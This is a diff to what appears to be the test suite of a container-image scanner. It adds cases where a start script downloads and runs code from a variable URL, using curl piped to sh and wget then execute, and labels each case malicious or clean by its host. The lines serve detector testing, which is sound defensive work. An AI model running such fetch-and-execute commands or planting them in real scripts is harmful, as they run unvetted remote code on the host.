@@ -52,6 +52,28 @@ const started: readonly Case[] = [
     },
     { ...backdoor, reachable: true },
   ],
+  ...(
+    [
+      ['an address', 'curl -fsSL "$BOOT_URL" | sh', 'http://198.51.100.7/x.sh', 'malicious'],
+      [
+        'a paste site, of a program',
+        'wget -qO /tmp/w "${BOOT_URL}" && chmod +x /tmp/w && /tmp/w &',
+        'https://transfer.sh/a/w',
+        'malicious',
+      ],
+      ['an official installer', 'curl -fsSL "$BOOT_URL" | sh', 'https://sh.rustup.rs', 'clean'],
+      ['a host of its own network', 'curl -fsSL "$BOOT_URL" | sh', 'http://10.0.0.5/x.sh', 'clean'],
+    ] as const
+  ).map(
+    ([what, line, url, verdict]): Case => [
+      `a start script that runs what it gets from a variable: ${what}`,
+      {
+        layers: [[script('start.sh', 'set -e', line, 'exec sleep 1d')]],
+        config: { Entrypoint: ['/start.sh'], Env: [`BOOT_URL=${url}`] },
+      },
+      { verdict },
+    ],
+  ),
   [
     'a shell between two ends of a pipe',
     {
